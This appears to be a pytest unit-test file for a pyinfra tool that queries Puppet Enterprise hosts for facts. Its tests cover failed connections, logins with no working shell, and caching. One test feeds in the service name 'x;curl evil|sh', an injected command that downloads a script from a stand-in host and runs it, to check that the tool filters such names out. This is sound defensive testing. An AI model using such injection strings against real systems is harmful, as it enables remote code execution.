"""Asking hosts for facts: who has failed stays failed, whatever comes of it."""

from __future__ import annotations

import time
from typing import Any, TypeVar, cast

import pytest
from pyinfra.api import Config, FactBase, Host, Inventory, State
from pyinfra.api.exceptions import ConnectError, DeployError
from pyinfra.connectors.util import CommandOutput, OutputLine

from facts.host import WhoAndWhen
from facts.puppet import PuppetSettings
from procedures.agent import AgentFacts, AgentRefusedError, ask_agent
from procedures.host import ask
from recert.deployments.pe_3_7 import PE_3_7
from recert.observed import Service
from tests.unit.issuing_ca import settings

T = TypeVar("T")


def test_who_could_not_be_connected_to_and_still_cannot_has_failed() -> None:
    nobody = {"ssh_hostname": "127.0.0.1", "ssh_port": 1, "ssh_user": "root"}
    state = State(Inventory(([("web01", nobody)], {})), Config())
    (host,) = state.inventory
    state.failed_hosts.add(host)
    with pytest.raises(ConnectError):
        ask(host, WhoAndWhen)
    assert host in state.failed_hosts, "the run would end with 0"


def answering(monkeypatch: pytest.MonkeyPatch, succeeds: bool, *lines: str) -> tuple[State, Host]:
    """A host whose login's shell prints these, and nothing of what it is told to run."""
    state = State(Inventory((["web01"], {})), Config())
    (host,) = state.inventory
    output = CommandOutput([OutputLine("stdout", line) for line in lines])
    monkeypatch.setattr(host, "connected", True)
    monkeypatch.setattr(host, "run_shell_command", lambda *_, **__: (succeeds, output))
    state.activate_host(host)
    return state, host


@pytest.mark.parametrize("fact", [WhoAndWhen, PuppetSettings])
@pytest.mark.parametrize(
    ("succeeds", "said"), [(True, ()), (False, ("This account is currently not available.",))]
)
def test_a_login_without_a_shell_is_told(
    monkeypatch: pytest.MonkeyPatch, fact: type[FactBase[Any]], succeeds: bool, said: tuple[str]
) -> None:
    """`exit 0` in its .bashrc, or nologin: without an answer nothing can be read out of one."""
    state, host = answering(monkeypatch, succeeds, *said)
    with pytest.raises(DeployError) as refused:
        ask(host, fact)
    assert "the shell of the login runs no commands" in str(refused.value)
    assert host in state.failed_hosts, "a survey would end with 0"
    state, host = answering(monkeypatch, succeeds, *said)
    with pytest.raises(AgentRefusedError, match="the shell of the login runs no commands"):
        ask_agent(host, fact)
    assert host in state.failed_hosts


class _Counted(AgentFacts):
    """Facts of an agent that counts how often it is asked."""

    asked = 0

    def _ask(self, fact: type[FactBase[T]], **arguments: object) -> T:
        type(self).asked += 1
        return cast(T, {})


def test_a_service_that_nobody_has_asked_for_is_none(monkeypatch: pytest.MonkeyPatch) -> None:
    """Its name would stand in a command to paste."""
    (host,) = State(Inventory((["web01"], {})), Config()).inventory
    facts = AgentFacts(host, settings(), "/var/lib/pe-recert/backups", PE_3_7)
    said = {"x;curl evil|sh": Service.STOPPED, "pe-puppet": Service.RUNNING}
    monkeypatch.setattr(facts, "known", lambda name: said)
    assert facts.services == {"pe-puppet": Service.RUNNING, "pe-mcollective": Service.MISSING}


@pytest.mark.parametrize(("waits", "asked"), [(0, 1), (11, 2)])
def test_a_run_that_follows_at_once_does_not_ask_again(
    monkeypatch: pytest.MonkeyPatch, waits: float, asked: int
) -> None:
    state = State(Inventory((["web01"], {})), Config())
    (host,) = state.inventory
    monkeypatch.setattr(_Counted, "asked", 0)
    facts = _Counted(host, settings(), "/var/lib/pe-recert/backups", PE_3_7)
    _ = facts.services
    later = time.monotonic() + waits
    monkeypatch.setattr(time, "monotonic", lambda: later)
    state.is_executing = True

    _ = facts.services, facts.services

    assert _Counted.asked == asked
